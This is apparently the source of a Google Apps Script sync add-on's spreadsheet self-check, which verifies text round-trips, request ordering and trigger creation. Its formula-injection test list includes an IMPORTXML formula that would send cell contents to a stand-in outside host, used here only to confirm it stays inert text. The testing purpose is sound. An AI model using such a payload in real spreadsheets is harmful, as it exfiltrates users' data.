// "Check this spreadsheet": runs, in the person's real spreadsheet and on a temporary sheet it removes
// afterwards, the platform assumptions the simulator cannot prove, and says what each result means.

import { activeSheetId, activeSpreadsheet } from './active';
import { loadConnection, loadLink } from './stores';

export interface SelfCheckResult {
  name: string;
  passed: boolean;
  /** What was seen (JSON-safe text; never the API key). */
  detail: string;
  /** What the result means for the sync. */
  meaning: string;
}

export interface SelfCheckReport {
  checks: SelfCheckResult[];
}

const LITERALS = ['00123', '2024-01-05', 'TRUE', '50%', '1e5', '+1'];
const FORMULA_TEXTS = ['=1+1', '=IMPORTXML("http://example.invalid/?"&A1,"//a")', '+cmd', '-1+1', '@SUM(A1)'];
const APOSTROPHES = ["'=1+1", "'00123"];
const HANDLER = 'runScheduledSync';

function show(value: unknown): string {
  if (Object.prototype.toString.call(value) === '[object Date]')
    return `Date(${(value as Date).toISOString()})`;
  return JSON.stringify(value) ?? String(value);
}

/** Runs one check; an exception becomes a failed check with its message. */
function attempt(
  name: string,
  meaning: string,
  work: () => { passed: boolean; detail: string },
): SelfCheckResult {
  try {
    return { name, meaning, ...work() };
  } catch (error) {
    const message = error instanceof Error ? error.message : String(error);
    return { name, meaning, passed: false, detail: `The check itself failed: ${message}` };
  }
}

/** Writes a column of strings into plain-text (@) cells and reads values and formulas back. */
function roundTrip(
  sheet: GoogleAppsScript.Spreadsheet.Sheet,
  column: number,
  inputs: string[],
): { values: unknown[]; formulas: string[] } {
  const range = sheet.getRange(1, column, inputs.length, 1);
  range.setNumberFormat('@');
  range.setValues(inputs.map((text) => [text]));
  SpreadsheetApp.flush();
  return {
    values: range.getValues().map((row) => row[0]),
    formulas: range.getFormulas().map((row) => row[0] as string),
  };
}

function literalCheck(sheet: GoogleAppsScript.Spreadsheet.Sheet, locale: string): SelfCheckResult {
  return attempt(
    'Literal text in plain-text cells',
    'Text such as 00123, dates, TRUE and 50% from the service stays exactly the text it was, under this spreadsheet’s locale. If this fails, pulled text may be changed into numbers, dates or booleans here.',
    () => {
      const { values } = roundTrip(sheet, 1, LITERALS);
      const wrong = LITERALS.filter((text, i) => values[i] !== text).map(
        (text, i) => `${text} → ${show(values[i])}`,
      );
      return {
        passed: wrong.length === 0,
        detail:
          wrong.length === 0
            ? `All ${LITERALS.length} values read back identical (locale ${locale}).`
            : `Changed (locale ${locale}): ${wrong.join('; ')}`,
      };
    },
  );
}

function formulaTextCheck(sheet: GoogleAppsScript.Spreadsheet.Sheet): SelfCheckResult {
  return attempt(
    'Text starting with = + - @ stays text',
    'A row’s text can never run as a formula (for example IMPORTXML sending your data elsewhere). If this fails, do not sync tables whose text comes from people you do not trust.',
    () => {
      const { values, formulas } = roundTrip(sheet, 2, FORMULA_TEXTS);
      const live = FORMULA_TEXTS.filter((_, i) => formulas[i] !== '');
      const changed = FORMULA_TEXTS.filter((text, i) => values[i] !== text);
      return {
        passed: live.length === 0 && changed.length === 0,
        detail:
          live.length === 0 && changed.length === 0
            ? `All ${FORMULA_TEXTS.length} values stayed text; no formulas.`
            : `Became formulas: ${show(live)}; read back changed: ${show(changed)}`,
      };
    },
  );
}

function apostropheCheck(sheet: GoogleAppsScript.Spreadsheet.Sheet): SelfCheckResult {
  return attempt(
    'Leading apostrophe in plain-text cells',
    'Reports whether Sheets keeps or strips a leading apostrophe in plain-text cells. Both are safe: the sync compares cells ignoring one leading apostrophe.',
    () => {
      const { values, formulas } = roundTrip(sheet, 3, APOSTROPHES);
      const kept = APOSTROPHES.every((text, i) => values[i] === text);
      const stripped = APOSTROPHES.every((text, i) => values[i] === text.slice(1));
      const noFormula = formulas.every((formula) => formula === '');
      return {
        passed: (kept || stripped) && noFormula,
        detail: kept
          ? 'Kept: the apostrophe is part of the value.'
          : stripped
            ? 'Stripped: the apostrophe is not part of the value.'
            : `Neither kept nor stripped: ${show(values)}; formulas ${show(formulas)}`,
      };
    },
  );
}

function fetchAllCheck(): SelfCheckResult {
  return attempt(
    'UrlFetchApp.fetchAll keeps the order of requests',
    'Answers of parallel requests are matched to their requests by position. If this fails, parallel pulls and pushes could put a row’s answer on the wrong line: report it before syncing.',
    () => {
      const connection = loadConnection();
      if (!connection) {
        return { passed: false, detail: 'Not connected: connect in the sidebar, then run this check again.' };
      }
      const base = connection.info.baseUrl + connection.info.prefix;
      const headers = { auth: connection.apiKey, accept: 'application/json' };
      const sheetId = activeSheetId();
      const link = loadLink(sheetId);
      const me = `${base}/user/me`;
      const page = link
        ? `${base}/tableApps/${encodeURIComponent(link.tableAppId)}/tables/${encodeURIComponent(link.tableId)}/rows?offset=0&limit=1`
        : null;
      const urls = page ? [me, page, me] : [me, me];
      const responses = UrlFetchApp.fetchAll(
        urls.map((url) => ({
          url,
          method: 'get' as const,
          headers,
          muteHttpExceptions: true,
          followRedirects: false,
        })),
      );
      const kinds = responses.map((response) => {
        if (response.getResponseCode() !== 200) return `status ${response.getResponseCode()}`;
        const json: unknown = JSON.parse(response.getContentText());
        if (Array.isArray(json)) return 'page';
        const record = json as Record<string, unknown>;
        if (typeof record.userId === 'string') return 'me';
        return Array.isArray(record.rows) ? 'page' : 'other';
      });
      const expected = urls.map((url) => (url === me ? 'me' : 'page'));
      const passed = kinds.join(',') === expected.join(',');
      return {
        passed,
        detail: `${page ? 'Profile, a page of rows, profile' : 'Profile twice (link this sheet to include a page of rows)'}: answers came back as ${kinds.join(', ')}.`,
      };
    },
  );
}

function triggerCheck(): SelfCheckResult {
  return attempt(
    'Hourly triggers can be created and removed',
    'Scheduled syncs use an hourly (or slower) time trigger. If this fails, schedules cannot run for you here; manual pull and push still work.',
    () => {
      const trigger = ScriptApp.newTrigger(HANDLER).timeBased().everyHours(1).create();
      const id = trigger.getUniqueId();
      ScriptApp.deleteTrigger(trigger);
      const left = ScriptApp.getProjectTriggers().some((each) => each.getUniqueId() === id);
      return {
        passed: !left,
        detail: left
          ? 'Created, but it is still installed after deleting it.'
          : 'Created an everyHours(1) trigger and deleted it.',
      };
    },
  );
}

/**
 * Runs every check on a temporary sheet (deleted afterwards, the active sheet kept) and returns the
 * results. Never throws for a failed check; never includes the API key.
 */
export function runSelfCheck(): SelfCheckReport {
  const spreadsheet = activeSpreadsheet();
  const active = spreadsheet.getActiveSheet();
  const locale = spreadsheet.getSpreadsheetLocale();
  const sheet = spreadsheet.insertSheet(`tas_check_${Date.now()}`, spreadsheet.getSheets().length);
  if (active) spreadsheet.setActiveSheet(active);
  const checks: SelfCheckResult[] = [];
  try {
    checks.push(literalCheck(sheet, locale));
    checks.push(formulaTextCheck(sheet));
    checks.push(apostropheCheck(sheet));
  } finally {
    spreadsheet.deleteSheet(sheet);
    if (active) spreadsheet.setActiveSheet(active);
  }
  checks.push(fetchAllCheck());
  checks.push(triggerCheck());
  return { checks };
}

/** Menu item "Check this spreadsheet": runs the checks and shows the results. */
export function menuSelfCheck(): void {
  const { checks } = runSelfCheck();
  const failed = checks.filter((check) => !check.passed).length;
  const lines = checks.map(
    (check) => `${check.passed ? '✓' : '✖'} ${check.name}: ${check.detail}\n   ${check.meaning}`,
  );
  const ui = SpreadsheetApp.getUi();
  ui.alert(
    failed === 0 ? 'All checks passed' : `${failed} of ${checks.length} checks failed`,
    lines.join('\n\n'),
    ui.ButtonSet.OK,
  );
}
